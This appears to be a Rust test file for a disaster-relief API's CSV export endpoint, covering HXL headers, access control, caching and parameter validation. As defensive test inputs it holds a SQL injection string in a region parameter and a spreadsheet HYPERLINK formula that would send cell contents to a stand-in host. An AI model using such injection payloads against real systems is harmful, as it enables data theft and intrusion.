//! `GET /exports/{dataset}.csv` over the demo data: two header rows (readable names in the
//! request's language, then HXL hashtags), the same figures as the GraphQL API, filters, who may
//! read what (401/403, an organization its own rows), cache validators, refusals of bad
//! parameters, and HXL's reference library (libhxl) reading every dataset.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::helpers::sql::thousandths;
use crate::helpers::{TestApp, ops, spawn_app_with_demo};

/// An answer of the export endpoint.
struct Answer {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl Answer {
    fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .map(|v| v.to_str().unwrap())
            .unwrap_or("")
    }

    /// The records: the two header rows first.
    fn records(&self) -> Vec<Vec<String>> {
        assert_eq!(self.status, 200, "{}", self.body);
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(self.body.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    /// The column tagged `tag` (the hashtag row's cell) of every data row.
    fn column(&self, tag: &str) -> Vec<String> {
        let records = self.records();
        let i = records[1]
            .iter()
            .position(|t| t == tag)
            .unwrap_or_else(|| panic!("no column {tag} in {:?}", records[1]));
        records[2..].iter().map(|r| r[i].clone()).collect()
    }

    /// The sum of a kilogram column, in grams (exact).
    fn grams(&self, tag: &str) -> i64 {
        self.column(tag).iter().map(|v| thousandths(v)).sum()
    }

    /// The JSON error body of a refusal.
    fn error(&self) -> Value {
        serde_json::from_str::<Value>(&self.body).unwrap_or_else(|_| panic!("{}", self.body))
            ["errors"][0]
            .clone()
    }
}

/// GETs `path` with an optional token and extra headers.
async fn get(app: &TestApp, path: &str, token: Option<&str>, headers: &[(&str, &str)]) -> Answer {
    let mut req = reqwest::Client::new().get(format!("{}{path}", app.base));
    if let Some(token) = token {
        req = req.header("Authorization", format!("Bearer {token}"));
    }
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = req.send().await.expect("the server answers");
    Answer {
        status: resp.status().as_u16(),
        headers: resp.headers().clone(),
        body: resp.text().await.unwrap(),
    }
}

/// Tonnes or kilograms as an API string → grams.
fn tonnes(v: &Value) -> i64 {
    let text = v.as_str().unwrap();
    let (whole, frac) = text.split_once('.').unwrap_or((text, ""));
    assert!(frac.len() <= 6, "finer than a gram: {text}");
    whole.parse::<i64>().unwrap() * 1_000_000 + format!("{frac:0<6}").parse::<i64>().unwrap()
}
fn kilograms(v: &Value) -> i64 {
    thousandths(v.as_str().unwrap())
}

const SUMMARY: &str = "{ reliefSummary { collectedTonnes deliveredTonnes outstandingNeedTonnes \
    peopleInShelters childrenInShelters } }";

#[tokio::test]
async fn every_dataset_has_two_header_rows_and_the_graphql_figures() {
    let app = spawn_app_with_demo().await;
    let ministry = app
        .token_of(birlik_api::demo::generate::MINISTRY_LOGIN)
        .await;
    let summary = app.anonymous().gql(SUMMARY, json!({})).await;
    let s = &summary.data()["reliefSummary"];

    let regions = get(&app, "/exports/regions.csv?lang=en", None, &[]).await;
    assert_eq!(regions.header("content-type"), "text/csv; charset=utf-8");
    let today = (chrono::Utc::now() + chrono::Duration::hours(5)).format("%Y-%m-%d");
    assert_eq!(
        regions.header("content-disposition"),
        format!("attachment; filename=\"birlik-regions-{today}.csv\"")
    );
    let records = regions.records();
    assert_eq!(records[0][0], "Region");
    assert_eq!(records[1][0], "#adm1 +name");
    assert!(
        records[1].iter().all(|t| t.starts_with('#')),
        "{:?}",
        records[1]
    );
    assert_eq!(records.len(), 2 + 20, "two header rows and the 20 regions");
    assert_eq!(
        regions.grams("#x_kg +collected"),
        tonnes(&s["collectedTonnes"])
    );
    assert_eq!(
        regions.grams("#x_kg +received"),
        tonnes(&s["deliveredTonnes"])
    );
    assert_eq!(
        regions.grams("#x_kg +outstanding"),
        tonnes(&s["outstandingNeedTonnes"])
    );
    let people: i64 = regions
        .column("#affected +ind +displaced")
        .iter()
        .map(|v| v.parse::<i64>().unwrap())
        .sum();
    assert_eq!(people, s["peopleInShelters"].as_i64().unwrap());
    // Region by region, as `regions` gives them.
    let gql = app
        .anonymous()
        .gql(
            "{ regions { code shippedOutTonnes volunteerCount collectionPointCount } }",
            json!({}),
        )
        .await;
    let codes = regions.column("#adm1 +code");
    let shipped = regions.column("#x_kg +shipped");
    let volunteers = regions.column("#indicator +num +volunteers");
    let points = regions.column("#indicator +num +collection_points");
    for r in gql.data()["regions"].as_array().unwrap() {
        let i = codes
            .iter()
            .position(|c| c == r["code"].as_str().unwrap())
            .unwrap();
        assert_eq!(thousandths(&shipped[i]), tonnes(&r["shippedOutTonnes"]));
        assert_eq!(volunteers[i], r["volunteerCount"].to_string());
        assert_eq!(points[i], r["collectionPointCount"].to_string());
    }

    let needs = get(&app, "/exports/needs.csv", None, &[]).await;
    let board = app
        .anonymous()
        .gql(
            "{ needs(first: 1) { requestedKilograms deliveredKilograms outstandingKilograms } \
               needStats(groupBy: []) { lineCount } }",
            json!({}),
        )
        .await;
    let board = board.data();
    assert_eq!(
        needs.grams("#x_kg +outstanding"),
        kilograms(&board["needs"]["outstandingKilograms"])
    );
    assert_eq!(
        needs.grams("#x_kg +outstanding"),
        tonnes(&s["outstandingNeedTonnes"])
    );
    assert_eq!(
        needs.grams("#x_kg +requested"),
        kilograms(&board["needs"]["requestedKilograms"])
    );
    assert_eq!(
        needs.grams("#x_kg +delivered"),
        kilograms(&board["needs"]["deliveredKilograms"])
    );
    assert_eq!(
        needs.records().len() as i64 - 2,
        board["needStats"][0]["lineCount"].as_i64().unwrap(),
        "one row per need line"
    );

    let shelters = get(&app, "/exports/shelters.csv", None, &[]).await;
    let status = shelters.column("#status");
    let open_sum = |tag: &str| -> i64 {
        shelters
            .column(tag)
            .iter()
            .zip(&status)
            .filter(|(_, s)| *s == "OPEN")
            .map(|(v, _)| v.parse::<i64>().unwrap_or(0))
            .sum()
    };
    assert_eq!(
        open_sum("#affected +ind +displaced"),
        s["peopleInShelters"].as_i64().unwrap()
    );
    assert_eq!(
        open_sum("#affected +ind +displaced +children"),
        s["childrenInShelters"].as_i64().unwrap()
    );

    let daily = get(&app, "/exports/donations-daily.csv", Some(&ministry), &[]).await;
    assert_eq!(
        daily.grams("#x_kg +collected"),
        tonnes(&s["collectedTonnes"])
    );
    let stats = app
        .as_demo_ministry()
        .await
        .gql(
            "{ donationStats(groupBy: [DAY, REGION, CATEGORY], \
                 filter: { status: { ne: CANCELLED } }) { donationCount kilograms } }",
            json!({}),
        )
        .await;
    let groups = stats.data()["donationStats"].as_array().unwrap();
    assert_eq!(daily.records().len() - 2, groups.len(), "one row per group");
    let count: i64 = daily
        .column("#indicator +num +donations")
        .iter()
        .map(|v| v.parse::<i64>().unwrap())
        .sum();
    assert_eq!(
        count,
        groups
            .iter()
            .map(|g| g["donationCount"].as_i64().unwrap())
            .sum::<i64>()
    );

    let three_w = get(&app, "/exports/3w.csv", Some(&ministry), &[]).await;
    assert_eq!(
        three_w.grams("#x_kg +delivered"),
        tonnes(&s["deliveredTonnes"])
    );
    assert_eq!(three_w.records()[1][0], "#org +name");
}

#[tokio::test]
async fn names_follow_the_requested_language() {
    let app = spawn_app_with_demo().await;
    let first = |a: &Answer| a.records()[0][0].clone();
    let kk = get(&app, "/exports/regions.csv?lang=kk", None, &[]).await;
    assert_eq!(first(&kk), "Өңір");
    let en = get(
        &app,
        "/exports/regions.csv",
        None,
        &[("Accept-Language", "en")],
    )
    .await;
    assert_eq!(first(&en), "Region");
    let ru_wins = get(
        &app,
        "/exports/regions.csv?lang=ru",
        None,
        &[("Accept-Language", "en")],
    )
    .await;
    assert_eq!(first(&ru_wins), "Регион");
    assert_ne!(kk.header("etag"), en.header("etag"), "a tag per language");
    for (lang, answer) in [("kk", &kk), ("en", &en), ("ru", &ru_wins)] {
        let gql = app
            .anonymous()
            .with_lang(lang)
            .gql("{ regions { code name } }", json!({}))
            .await;
        let names: BTreeMap<String, String> = answer
            .column("#adm1 +code")
            .into_iter()
            .zip(answer.column("#adm1 +name"))
            .collect();
        for r in gql.data()["regions"].as_array().unwrap() {
            assert_eq!(
                names[r["code"].as_str().unwrap()],
                r["name"].as_str().unwrap()
            );
        }
    }
    let labels = get(&app, "/exports/needs.csv?lang=en&category=FOOD", None, &[]).await;
    assert!(
        labels
            .column("#item +type +name")
            .iter()
            .all(|l| l == "Food")
    );
    assert!(
        labels
            .column("#sector +cluster +code")
            .iter()
            .all(|c| c == "FSC")
    );
}

#[tokio::test]
async fn filters_narrow_each_dataset_as_graphql_does() {
    let app = spawn_app_with_demo().await;
    let ministry = app
        .token_of(birlik_api::demo::generate::MINISTRY_LOGIN)
        .await;
    let gql = app
        .anonymous()
        .gql("{ regions { code affected } }", json!({}))
        .await;
    let affected: Vec<String> = gql.data()["regions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["affected"].as_bool().unwrap())
        .map(|r| r["code"].as_str().unwrap().to_owned())
        .collect();
    let code = &affected[0];

    let needs = get(
        &app,
        &format!("/exports/needs.csv?region={code}"),
        None,
        &[],
    )
    .await;
    assert!(!needs.column("#adm1 +code").is_empty());
    assert!(needs.column("#adm1 +code").iter().all(|c| c == code));
    let board = app
        .anonymous()
        .gql(
            "query($c: String!) { needs(filter: { regionCode: { eq: $c } }) { outstandingKilograms } }",
            json!({ "c": code }),
        )
        .await;
    assert_eq!(
        needs.grams("#x_kg +outstanding"),
        kilograms(&board.data()["needs"]["outstandingKilograms"])
    );

    let daily = get(
        &app,
        "/exports/donations-daily.csv?from=2024-04-01&to=2024-04-07&category=FOOD",
        Some(&ministry),
        &[],
    )
    .await;
    let days = daily.column("#date");
    assert!(!days.is_empty());
    assert!(
        days.iter()
            .all(|d| d.as_str() >= "2024-04-01" && d.as_str() <= "2024-04-07")
    );
    assert!(
        daily
            .column("#item +type +code")
            .iter()
            .all(|c| c == "FOOD")
    );
    let stats = app
        .as_demo_ministry()
        .await
        .gql(
            "{ donationStats(groupBy: [], filter: { status: { ne: CANCELLED }, category: { eq: FOOD }, \
               receivedAt: { gte: \"2024-03-31T19:00:00Z\", lt: \"2024-04-07T19:00:00Z\" } }) { kilograms } }",
            json!({}),
        )
        .await;
    assert_eq!(
        daily.grams("#x_kg +collected"),
        kilograms(&stats.data()["donationStats"][0]["kilograms"])
    );

    let three_w = get(
        &app,
        &format!("/exports/3w.csv?region={code}"),
        Some(&ministry),
        &[],
    )
    .await;
    assert!(!three_w.column("#adm1 +code +dest").is_empty());
    assert!(
        three_w
            .column("#adm1 +code +dest")
            .iter()
            .all(|c| c == code)
    );
    let regions = get(
        &app,
        &format!("/exports/regions.csv?region={code}"),
        None,
        &[],
    )
    .await;
    assert_eq!(regions.column("#adm1 +code"), vec![code.clone()]);
    let shelters = get(
        &app,
        &format!("/exports/shelters.csv?region={code}"),
        None,
        &[],
    )
    .await;
    assert!(shelters.column("#adm1 +code").iter().all(|c| c == code));
}

#[tokio::test]
async fn per_organization_datasets_need_a_role_and_show_an_organization_its_own_rows() {
    let app = spawn_app_with_demo().await;
    let ministry = app
        .token_of(birlik_api::demo::generate::MINISTRY_LOGIN)
        .await;
    let ngo = app.token_of(birlik_api::demo::generate::NGO_LOGIN).await;
    let volunteer = app
        .token_of(birlik_api::demo::generate::VOLUNTEER_LOGIN)
        .await;
    for dataset in ["3w", "donations-daily"] {
        let path = format!("/exports/{dataset}.csv");
        let anonymous = get(&app, &path, None, &[]).await;
        assert_eq!(anonymous.status, 401, "{}", anonymous.body);
        assert_eq!(anonymous.header("www-authenticate"), "Bearer");
        assert_eq!(anonymous.error()["extensions"]["code"], "UNAUTHENTICATED");
        assert_eq!(anonymous.header("cache-control"), "private, no-store");
        let forged = get(&app, &path, Some("not-a-token"), &[]).await;
        assert_eq!(forged.status, 401);
        let refused = get(&app, &path, Some(&volunteer), &[]).await;
        assert_eq!(refused.status, 403, "{}", refused.body);
        assert_eq!(refused.error()["extensions"]["code"], "FORBIDDEN");
        let own = get(&app, &path, Some(&ngo), &[]).await;
        assert_eq!(own.status, 200);
        assert_eq!(own.header("cache-control"), "private, no-store");
        assert!(own.header("etag").is_empty());
    }
    // The NGO's rows are its GraphQL view: its donations, its shipments' flows.
    let ngo_client = app.as_demo_ngo().await;
    let view = ngo_client
        .gql(
            "{ donationStats(groupBy: [], filter: { status: { ne: CANCELLED } }) { kilograms } \
               shipmentFlows(status: [DELIVERED]) { kilograms } }",
            json!({}),
        )
        .await;
    let view = view.data();
    let daily = get(&app, "/exports/donations-daily.csv", Some(&ngo), &[]).await;
    let own_grams = daily.grams("#x_kg +collected");
    assert_eq!(own_grams, kilograms(&view["donationStats"][0]["kilograms"]));
    let all = get(&app, "/exports/donations-daily.csv", Some(&ministry), &[]).await;
    assert!(0 < own_grams && own_grams < all.grams("#x_kg +collected"));
    let three_w = get(&app, "/exports/3w.csv", Some(&ngo), &[]).await;
    let flows: i64 = view["shipmentFlows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| kilograms(&f["kilograms"]))
        .sum();
    assert_eq!(three_w.grams("#x_kg +delivered"), flows);
    let everyone = get(&app, "/exports/3w.csv", Some(&ministry), &[]).await;
    assert!(three_w.records().len() < everyone.records().len());
    // Public datasets: everyone.
    for dataset in ["needs", "regions", "shelters"] {
        let answer = get(
            &app,
            &format!("/exports/{dataset}.csv"),
            Some(&volunteer),
            &[],
        )
        .await;
        assert_eq!(answer.status, 200, "{dataset}");
    }
}

#[tokio::test]
async fn public_datasets_are_cacheable_and_revalidate_with_their_etag() {
    let app = spawn_app_with_demo().await;
    for dataset in ["needs", "regions", "shelters"] {
        let path = format!("/exports/{dataset}.csv");
        let first = get(&app, &path, None, &[]).await;
        assert_eq!(first.header("cache-control"), "public, max-age=30");
        let etag = first.header("etag").to_owned();
        assert!(
            etag.starts_with('"') && etag.ends_with('"') && etag.len() > 10,
            "{etag}"
        );
        let again = get(&app, &path, None, &[]).await;
        assert_eq!(again.header("etag"), etag, "stable while nothing changes");
        let unchanged = get(&app, &path, None, &[("If-None-Match", &etag)]).await;
        assert_eq!(unchanged.status, 304);
        assert!(unchanged.body.is_empty());
        assert_eq!(unchanged.header("etag"), etag);
        let other = get(
            &app,
            &path,
            None,
            &[("If-None-Match", "\"something-else\"")],
        )
        .await;
        assert_eq!(other.status, 200);
        let filtered = get(&app, &format!("{path}?region=KZ-71"), None, &[]).await;
        assert_ne!(filtered.header("etag"), etag, "a tag per filter");
    }
    // A new head count changes the shelters' tag.
    let before = get(&app, "/exports/shelters.csv", None, &[]).await;
    let ministry = app.as_demo_ministry().await;
    let shelters = ministry
        .gql(
            "{ shelters(first: 1) { nodes { id capacity } } }",
            json!({}),
        )
        .await;
    let shelter = &shelters.data()["shelters"]["nodes"][0];
    ministry
        .gql(
            ops::REPORT_SHELTER_COUNT,
            json!({ "input": { "shelterId": shelter["id"], "people": 3, "children": 1,
                               "idempotencyKey": "exports-etag" } }),
        )
        .await
        .data();
    let after = get(
        &app,
        "/exports/shelters.csv",
        None,
        &[("If-None-Match", before.header("etag"))],
    )
    .await;
    assert_eq!(after.status, 200, "the old tag no longer matches");
    assert_ne!(after.header("etag"), before.header("etag"));
}

#[tokio::test]
async fn bad_parameters_are_refused_naming_them_and_nothing_leaks() {
    let app = spawn_app_with_demo().await;
    let ministry = app
        .token_of(birlik_api::demo::generate::MINISTRY_LOGIN)
        .await;
    for (query, field) in [
        ("region=KZ-99", Some("region")),
        ("region=%27%20OR%201%3D1--", Some("region")),
        ("from=2024-13-01", Some("from")),
        ("to=yesterday", Some("to")),
        ("from=2024-05-01&to=2024-04-01", Some("to")),
        ("category=FOO", Some("category")),
        ("category=FOOD&category=MEDICINE", Some("category")),
        ("lang=de", Some("lang")),
        ("page=2", None),
    ] {
        let answer = get(
            &app,
            &format!("/exports/donations-daily.csv?{query}"),
            Some(&ministry),
            &[],
        )
        .await;
        assert_eq!(answer.status, 400, "{query}: {}", answer.body);
        let error = answer.error();
        assert_eq!(error["extensions"]["code"], "BAD_USER_INPUT", "{query}");
        match field {
            Some(field) => assert_eq!(error["extensions"]["field"], field, "{query}"),
            None => assert!(error["message"].as_str().unwrap().contains("`page`")),
        }
        let lower = answer.body.to_lowercase();
        for leak in ["select", "sql", "syntax", "sqlite", "postgres"] {
            assert!(
                !lower.contains(leak),
                "{query} leaks {leak}: {}",
                answer.body
            );
        }
    }
    // A filter that the dataset does not take.
    let regions = get(&app, "/exports/regions.csv?category=FOOD", None, &[]).await;
    assert_eq!(regions.status, 400);
    let unknown = get(&app, "/exports/people.csv", None, &[]).await;
    assert_eq!(unknown.status, 404);
    assert_eq!(unknown.error()["extensions"]["code"], "NOT_FOUND");
}

#[tokio::test]
async fn libhxl_reads_every_dataset_and_its_sums_are_the_graphql_figures() {
    let python = std::process::Command::new("python3")
        .args(["-c", "import hxl"])
        .output();
    if !python.is_ok_and(|o| o.status.success()) {
        println!("SKIPPED: python3 with libhxl (pip install libhxl six) is not available");
        return;
    }
    let app = spawn_app_with_demo().await;
    let ministry = app
        .token_of(birlik_api::demo::generate::MINISTRY_LOGIN)
        .await;
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for dataset in ["3w", "needs", "regions", "donations-daily", "shelters"] {
        let answer = get(
            &app,
            &format!("/exports/{dataset}.csv"),
            Some(&ministry),
            &[],
        )
        .await;
        assert_eq!(answer.status, 200, "{dataset}");
        let path = dir.path().join(format!("{dataset}.csv"));
        std::fs::write(&path, &answer.body).unwrap();
        paths.push(path.to_str().unwrap().to_owned());
    }
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/python/hxl_check.py");
    let out = std::process::Command::new("python3")
        .arg(script)
        .args(&paths)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "libhxl refused an export:\n{}\n{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let sum = |dataset: &str, tag: &str| -> i64 {
        let file = &report[&paths[["3w", "needs", "regions", "donations-daily", "shelters"]
            .iter()
            .position(|d| *d == dataset)
            .unwrap()]];
        let text = file["sums"][tag]
            .as_str()
            .unwrap_or_else(|| panic!("no sum of {tag} in {file}"));
        thousandths(text)
    };
    let summary = app.anonymous().gql(SUMMARY, json!({})).await;
    let s = &summary.data()["reliefSummary"];
    assert_eq!(
        sum("regions", "#x_kg+collected"),
        tonnes(&s["collectedTonnes"])
    );
    assert_eq!(
        sum("regions", "#x_kg+received"),
        tonnes(&s["deliveredTonnes"])
    );
    assert_eq!(sum("3w", "#x_kg+delivered"), tonnes(&s["deliveredTonnes"]));
    assert_eq!(
        sum("donations-daily", "#x_kg+collected"),
        tonnes(&s["collectedTonnes"])
    );
    assert_eq!(
        sum("needs", "#x_kg+outstanding"),
        tonnes(&s["outstandingNeedTonnes"])
    );
    assert_eq!(
        sum("regions", "#affected+ind+displaced"),
        s["peopleInShelters"].as_i64().unwrap() * 1000
    );
}

#[tokio::test]
async fn text_that_a_spreadsheet_would_run_as_a_formula_is_exported_inert() {
    let app = spawn_app_with_demo().await;
    let ministry = app.as_demo_ministry().await;
    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Help\")";
    ministry
        .gql(
            ops::OPEN_SHELTER,
            json!({ "input": { "regionCode": "KZ-23", "name": formula, "address": "@SUM(1+1)",
                               "capacity": 40, "idempotencyKey": "exports-formula" } }),
        )
        .await
        .data();
    let shelters = get(&app, "/exports/shelters.csv", None, &[]).await;
    let names = shelters.column("#loc +name");
    assert!(
        names.contains(&format!("'{formula}")),
        "the formula is a quoted text: {names:?}"
    );
    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
    let addresses = shelters.column("#loc +address");
    assert!(
        addresses.contains(&"'@SUM(1+1)".to_owned()),
        "{addresses:?}"
    );
}
